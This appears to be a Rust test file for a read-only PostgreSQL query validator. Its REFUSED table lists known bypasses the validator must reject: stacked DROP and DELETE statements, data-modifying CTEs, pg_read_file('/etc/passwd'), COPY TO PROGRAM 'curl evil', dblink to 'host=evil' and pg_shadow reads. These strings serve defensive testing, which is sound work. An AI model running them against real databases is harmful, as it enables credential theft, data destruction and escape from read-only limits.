//! Ways by which read-only SQL servers have been bypassed, and their kin.

use super::{code, postgres};
use crate::Code::{
    self, DataModifying, DataType, Function, Identifier, Literal, Locking, NotAQuery, Operator,
    SelectInto, SeveralStatements, Syntax, SystemCatalogue, Unsupported,
};

#[rustfmt::skip]
pub(super) const REFUSED: &[(Code, &str)] = &[
    // Several statements (the MCP reference server, pgAdmin CVE-2026-12045).
    (SeveralStatements, "COMMIT; DROP TABLE customers"),
    (SeveralStatements, "SELECT 1; DROP TABLE customers"),
    (SeveralStatements, "SELECT 1;;DELETE FROM customers"),
    (SeveralStatements, "SELECT 1; -- harmless\n DELETE FROM customers"),
    (SeveralStatements, "SELECT 1 /* ; */ ; /* */ SELECT 2"),
    (SeveralStatements, "ROLLBACK; BEGIN READ WRITE; UPDATE customers SET name = 'x'"),
    // Leading comments in front of something else (pgEdge, awslabs).
    (NotAQuery, "/* SELECT */ DELETE FROM customers"),
    (NotAQuery, "-- SELECT 1\nDROP TABLE customers"),
    (NotAQuery, "/* a /* nested */ SELECT */ TRUNCATE customers"),
    // Other statements.
    (NotAQuery, "INSERT INTO customers VALUES (1)"),
    (NotAQuery, "UPDATE customers SET name = 'x'"),
    (NotAQuery, "DELETE FROM customers"),
    (NotAQuery, "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE"),
    (NotAQuery, "TRUNCATE customers"),
    (NotAQuery, "CREATE TABLE t (a int)"),
    (NotAQuery, "CREATE EXTENSION dblink"),
    (NotAQuery, "ALTER ROLE postgres SUPERUSER"),
    (NotAQuery, "DROP TABLE customers"),
    (NotAQuery, "GRANT ALL ON customers TO public"),
    (NotAQuery, "REVOKE ALL ON customers FROM public"),
    (NotAQuery, "BEGIN"), (NotAQuery, "COMMIT"), (NotAQuery, "ROLLBACK"), (NotAQuery, "SAVEPOINT a"),
    (NotAQuery, "SET TRANSACTION READ WRITE"),
    (NotAQuery, "SET ROLE postgres"),
    (NotAQuery, "RESET ALL"), (NotAQuery, "SHOW ALL"),
    (NotAQuery, "COPY customers TO PROGRAM 'curl evil'"),
    (NotAQuery, "COPY (SELECT 1) TO '/tmp/x'"),
    (NotAQuery, "CALL procedure()"),
    (NotAQuery, "DO $$ BEGIN PERFORM 1; END $$"),
    (NotAQuery, "EXPLAIN ANALYZE DELETE FROM customers"),
    (NotAQuery, "EXPLAIN SELECT 1"),
    (NotAQuery, "LISTEN channel"), (NotAQuery, "NOTIFY channel"),
    (NotAQuery, "LOCK TABLE customers"), (NotAQuery, "VACUUM"), (NotAQuery, "ANALYZE"),
    (NotAQuery, "PREPARE p AS SELECT 1"), (NotAQuery, "EXECUTE p"), (NotAQuery, "DEALLOCATE ALL"),
    (NotAQuery, "LOAD 'evil'"), (NotAQuery, "DISCARD ALL"), (NotAQuery, "CHECKPOINT"),
    (NotAQuery, "REFRESH MATERIALIZED VIEW v"), (NotAQuery, "REINDEX TABLE t"),
    (NotAQuery, "DECLARE c CURSOR FOR SELECT 1"), (NotAQuery, "FETCH ALL FROM c"),
    (NotAQuery, "IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y"),
    (NotAQuery, "SECURITY LABEL ON TABLE t IS 'x'"),
    // Data-modifying CTEs (sqlite-explorer).
    (DataModifying, "WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone"),
    (DataModifying, "WITH n AS (INSERT INTO customers VALUES (1) RETURNING id) SELECT * FROM n"),
    (DataModifying, "WITH u AS (UPDATE customers SET name = 'x' RETURNING id) SELECT * FROM u"),
    (DataModifying, "WITH a AS (SELECT 1) DELETE FROM customers"),
    (DataModifying, "WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a"),
    (DataModifying, "SELECT * FROM (WITH g AS (DELETE FROM customers RETURNING *) SELECT * FROM g) t"),
    (DataModifying, "SELECT 1 WHERE EXISTS (WITH g AS (DELETE FROM t RETURNING 1) SELECT * FROM g)"),
    // SELECT INTO.
    (SelectInto, "SELECT * INTO copy FROM customers"),
    (SelectInto, "SELECT * INTO TEMP copy FROM customers"),
    (SelectInto, "WITH a AS (SELECT 1) SELECT * INTO UNLOGGED copy FROM a"),
    (SelectInto, "(SELECT * INTO copy FROM customers)"),
    // Row locks.
    (Locking, "SELECT * FROM customers FOR UPDATE"),
    (Locking, "SELECT * FROM customers FOR SHARE"),
    (Locking, "SELECT * FROM (SELECT * FROM customers FOR UPDATE) t"),
    (Locking, "SELECT * FROM customers FOR UPDATE SKIP LOCKED"),
    // Functions with effects, wherever they stand (postgres-mcp #178).
    (Function, "SELECT pg_read_file('/etc/passwd')"),
    (Function, "SELECT * FROM pg_read_file('/etc/passwd')"),
    (Function, "SELECT * FROM pg_ls_dir('.') AS t(name)"),
    (Function, "SELECT * FROM customers, LATERAL pg_read_binary_file(name) AS f"),
    (Function, "SELECT * FROM customers LEFT JOIN LATERAL pg_stat_file(name) f ON true"),
    (Function, "SELECT lo_export(16384, '/tmp/x')"),
    (Function, "SELECT lo_import('/etc/passwd')"),
    (Function, "SELECT lo_from_bytea(0, 'x')"),
    (Function, "SELECT pg_sleep(60)"),
    (Function, "SELECT 1 ORDER BY pg_sleep(1)"),
    (Function, "SELECT 1 WHERE pg_sleep(1) IS NULL"),
    (Function, "SELECT 1 LIMIT (SELECT length(pg_sleep(1)::text))"),
    (Function, "SELECT 1 OFFSET pg_sleep(1)"),
    (Function, "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t"),
    (Function, "SELECT sum(a) OVER (ORDER BY pg_sleep(1)) FROM t"),
    (Function, "SELECT sum(a) OVER w FROM t WINDOW w AS (PARTITION BY pg_sleep(1))"),
    (Function, "SELECT count(*) FROM t GROUP BY pg_sleep(1)"),
    (Function, "SELECT count(*) FROM t GROUP BY GROUPING SETS ((pg_sleep(1)))"),
    (Function, "SELECT count(*) FROM t HAVING pg_sleep(1) IS NULL"),
    (Function, "SELECT DISTINCT ON (pg_sleep(1)) * FROM t"),
    (Function, "SELECT string_agg(a, ',' ORDER BY pg_sleep(1)) FROM t"),
    (Function, "SELECT CASE WHEN true THEN pg_sleep(1) END"),
    (Function, "SELECT ARRAY[pg_sleep(1)]"),
    (Function, "SELECT ARRAY(SELECT pg_sleep(1))"),
    (Function, "SELECT (ARRAY[1])[pg_sleep(1)]"),
    (Function, "SELECT make_interval(days => nextval('s')::int)"),
    (Function, "VALUES (pg_sleep(1))"),
    (Function, "SELECT * FROM (VALUES (nextval('s'))) v"),
    (Function, "SELECT * FROM a JOIN b ON pg_sleep(1) IS NULL"),
    (Function, "SELECT 1 UNION SELECT pg_sleep(1)"),
    (Function, "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT pg_sleep(1)) SELECT * FROM r"),
    (Function, "SELECT EXTRACT(day FROM pg_sleep(1))"),
    (Function, "SELECT trim(both pg_read_file('x') from 'y')"),
    (Function, "SELECT substring(pg_read_file('x') from 1 for 2)"),
    (Function, "SELECT position(pg_read_file('x') in 'y')"),
    (Function, "SELECT a COLLATE \"C\" FROM t WHERE dblink('a', 'b') = 1"),
    (Function, "SELECT dblink('host=evil', 'DELETE FROM x')"),
    (Function, "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)"),
    (Function, "SELECT dblink_exec('DROP TABLE t')"),
    (Function, "SELECT set_config('role', 'postgres', false)"),
    (Function, "SELECT current_setting('app.secret')"),
    (Function, "SELECT nextval('orders_id_seq')"), (Function, "SELECT setval('s', 1)"),
    (Function, "SELECT currval('s')"), (Function, "SELECT lastval()"),
    (Function, "SELECT pg_terminate_backend(1)"), (Function, "SELECT pg_cancel_backend(1)"),
    (Function, "SELECT pg_reload_conf()"), (Function, "SELECT pg_rotate_logfile()"),
    (Function, "SELECT pg_switch_wal()"), (Function, "SELECT pg_create_restore_point('x')"),
    (Function, "SELECT pg_advisory_lock(1)"), (Function, "SELECT pg_try_advisory_xact_lock(1)"),
    (Function, "SELECT pg_notify('channel', 'x')"),
    (Function, "SELECT pg_import_system_collations('public')"),
    (Function, "SELECT pg_stat_reset()"), (Function, "SELECT pg_promote()"),
    (Function, "SELECT pg_logical_emit_message(true, 'a', 'b')"),
    (Function, "SELECT txid_current()"), (Function, "SELECT setseed(0)"),
    // Functions that run SQL given as text.
    (Function, "SELECT query_to_xml('DELETE FROM t', true, true, '')"),
    (Function, "SELECT table_to_xml('customers', true, true, '')"),
    (Function, "SELECT database_to_xml(true, true, '')"),
    (Function, "SELECT * FROM ts_stat('SELECT pg_sleep(1)')"),
    (Function, "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')"),
    (Function, "SELECT * FROM crosstab('SELECT 1') AS t(a int)"),
    (Function, "SELECT * FROM connectby('t', 'a', 'b', 'c', 0)"),
    // Names in disguise.
    (Function, "SELECT \"pg_read_file\"('/etc/passwd')"),
    (Function, "SELECT PG_READ_FILE('/etc/passwd')"),
    (Function, "SELECT pg_catalog.pg_read_file('/etc/passwd')"),
    (Function, "SELECT \"pg_catalog\".\"pg_sleep\"(1)"),
    (Function, "SELECT pg_read_file /* */ ('/etc/passwd')"),
    (Function, "SELECT pg_read_file --\n ('/etc/passwd')"),
    (Function, "SELECT public.lower('x')"),
    (Function, "SELECT evil.count(1)"),
    (Function, "SELECT db.pg_catalog.lower('x')"),
    (Function, "SELECT \"LOWER\"('x')"),
    (Function, "SELECT regclass('customers')"), (Function, "SELECT to_regclass('customers')"),
    (Function, "SELECT t.pg_read_file FROM t"), (Function, "SELECT (t).lo_unlink FROM t"),
    // Unicode escapes: `U&"…"` is no name to this parser and must not become one.
    (Function, "SELECT U&\"\\0070g_sleep\"(1)"),
    (Syntax, "SELECT * FROM U&\"pg_\\0063lass\""),
    (Identifier, "SELECT U&\"\\0070wd\" FROM t"),
    (SeveralStatements, "SELECT 1 AS \"a\\\" FROM t; DROP TABLE t --\""),
    (Identifier, "SELECT 1 AS \"a\\\" FROM t --\""),
    (Identifier, "SELECT 1 AS \"a\"\"b\""),
    (Identifier, "SELECT 1 AS \"a\nb\""),
    (Function, "SELECT lo\u{200b}wer('x')"),
    (Identifier, "SELECT na\u{200b}me FROM t"),
    (Identifier, "SELECT a\u{a0}b FROM t"),
    // Casts that look objects up.
    (DataType, "SELECT 'customers'::regclass"),
    (DataType, "SELECT 'x'::regproc"), (DataType, "SELECT 'x'::REGPROCEDURE"),
    (DataType, "SELECT 'x'::regrole"), (DataType, "SELECT 'x'::regnamespace"),
    (DataType, "SELECT 'x'::pg_catalog.regclass"), (DataType, "SELECT 'x'::\"regclass\""),
    (DataType, "SELECT CAST('x' AS regtype)"), (DataType, "SELECT regclass 'customers'"),
    (DataType, "SELECT '{x}'::regclass[]"), (DataType, "SELECT '{x}'::_regclass"),
    (DataType, "SELECT 'x'::regclass::oid"),
    (DataType, "SELECT * FROM jsonb_to_record('{}') AS t(a regclass)"),
    // Catalogues.
    (SystemCatalogue, "SELECT * FROM pg_shadow"), (SystemCatalogue, "SELECT * FROM pg_authid"),
    (SystemCatalogue, "SELECT * FROM pg_catalog.pg_class"),
    (SystemCatalogue, "SELECT * FROM \"pg_catalog\".\"pg_proc\""),
    (SystemCatalogue, "SELECT * FROM PG_STAT_ACTIVITY"), (SystemCatalogue, "SELECT * FROM pg_settings"),
    (SystemCatalogue, "SELECT * FROM pg_toast.pg_toast_1"),
    (SystemCatalogue, "SELECT * FROM (SELECT * FROM a JOIN pg_roles ON true) t"),
    (SystemCatalogue, "SELECT (SELECT passwd FROM pg_shadow LIMIT 1)"),
    (SystemCatalogue, "SELECT 1 WHERE 1 IN (SELECT oid FROM pg_class)"),
    (SystemCatalogue, "WITH a AS (SELECT * FROM pg_user) SELECT * FROM a"),
    (SystemCatalogue, "TABLE pg_shadow"), (SystemCatalogue, "TABLE pg_catalog.pg_authid"),
    (SystemCatalogue, "SELECT 1 UNION (TABLE pg_user)"),
    (SystemCatalogue, "SELECT * FROM information_schema.role_table_grants"),
    (SystemCatalogue, "SELECT * FROM information_schema.routines"),
    (SystemCatalogue, "SELECT * FROM postgres.pg_catalog.pg_class"),
    (SystemCatalogue, "SELECT * FROM postgres.information_schema.enabled_roles"),
    // Types of the owner's, whose checks and fields are theirs.
    (DataType, "SELECT 'x'::invoice_status"), (DataType, "SELECT 'x'::public.lower"),
    (DataType, "SELECT NULL::customers"), (DataType, "SELECT 'x'::shop.text"),
    (DataType, "SELECT json_populate_record(NULL::customers, '{}')"),
    // A field that may be a function.
    (Function, "SELECT ('s'::text).nextval"), (Function, "SELECT ('s').nextval"),
    (Function, "SELECT (ARRAY['s'])[1].nextval"), (Function, "SELECT (coalesce('s')).ts_stat"),
    (Function, "SELECT (c).total FROM orders c"), (Function, "SELECT (c.tags[1]).abs FROM t c"),
    (Function, "SELECT c.tags[1].abs FROM t c"), (Function, "SELECT (jsonb_each('{}')).setseed"),
    (Function, "SELECT e.setseed FROM jsonb_array_elements('[0]') AS e"),
    (Unsupported, "SELECT json_value('{}', '$.a')"), (Function, "SELECT similarity('a', 'b')"),
    // Operators that may be any function.
    (Operator, "SELECT 1 OPERATOR(pg_catalog.+) 2"),
    (Operator, "SELECT 1 OPERATOR(evil.+) 2"),
    (Operator, "SELECT 1 <%%> 2"), (Operator, "SELECT 'a'::tsquery @@@ to_tsvector('x')"),
    (Operator, "SELECT 'a' ||- 1"), (Operator, "SELECT 1 +@ 2"),
    (Operator, "SELECT a FROM t ORDER BY a USING <"),
    // Literals and parameters.
    (Literal, "SELECT $1"), (Literal, "SELECT * FROM t WHERE a = $2"),
    (Literal, "SELECT B'1''0'"), (Literal, "SELECT N'x'"),
    // The number 0 and a name to one version, a number to the next.
    (Literal, "SELECT 0x41"), (Literal, "SELECT 0b101"), (Literal, "SELECT 0o17"), (Literal, "SELECT 1a"),
    (Literal, "SELECT * FROM t LIMIT 0xFFFF"),
    // Foreign syntax.
    (Unsupported, "SELECT TOP 1 * FROM t"), (Unsupported, "SELECT * FROM t TABLESAMPLE SYSTEM (1)"),
    (Unsupported, "SELECT INTERVAL (SELECT 1) day"),
    // Not SQL.
    (Syntax, "SELECT 'unterminated"), (Syntax, "SELECT $a$ unterminated"),
    (Syntax, "SELECT /* unterminated"), (Syntax, "SELECT (1"), (Syntax, "SELECT 1)"),
    (Syntax, "WITH a AS (SELECT 1)"),
    (SelectInto, "SELECT * FROM t INTO OUTFILE '/tmp/x'"),
];

#[test]
fn every_known_bypass_is_refused() {
    let mut wrong = Vec::new();
    for (expected, sql) in REFUSED {
        if code(sql) != Some(*expected) {
            wrong.push(format!(
                "{sql}\n    expected {expected}, got {:?}",
                postgres(sql)
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A bypass inside a string is only text.
#[test]
fn strings_stay_strings() {
    for (sql, rendered) in [
        (
            "SELECT 'COMMIT; DROP TABLE t'",
            "SELECT 'COMMIT; DROP TABLE t'",
        ),
        (
            "SELECT $$it's; DROP TABLE t$$",
            "SELECT 'it''s; DROP TABLE t'",
        ),
        ("SELECT $a$ $$ $a$", "SELECT ' $$ '"),
        (
            r"SELECT E'a\'; DROP TABLE t; --'",
            "SELECT 'a''; DROP TABLE t; --'",
        ),
        (r"SELECT '\'", r"SELECT E'\\'"),
        (
            r"SELECT '\''; DROP TABLE t; --'",
            r"SELECT E'\\\'; DROP TABLE t; --'",
        ),
        (r"SELECT E'\\'' OR 1=1'", r"SELECT E'\\\' OR 1=1'"),
        ("SELECT ''''''", r"SELECT E'\'\''"),
        (r"SELECT U&'\0041'", "SELECT 'A'"),
        ("SELECT /*+ SeqScan(t) */ 1 -- tail", "SELECT 1"),
    ] {
        assert_eq!(
            postgres(sql).map(|query| query.sql().to_owned()),
            Ok(rendered.to_owned()),
            "{sql}"
        );
    }
}

/// Adjacent signs never become a comment.
#[test]
fn signs_do_not_become_comments() {
    for sql in [
        "SELECT - -1",
        "SELECT -(-1)",
        "SELECT 1 - -1",
        "SELECT 1 =-1 AND 2*-1 <-3",
        "SELECT 1 - - -1",
        "SELECT @ -1",
        "SELECT ~ -1",
    ] {
        let query = postgres(sql).unwrap();
        assert!(
            !query.sql().contains("--") && !query.sql().contains("@-"),
            "{}",
            query.sql()
        );
    }
}
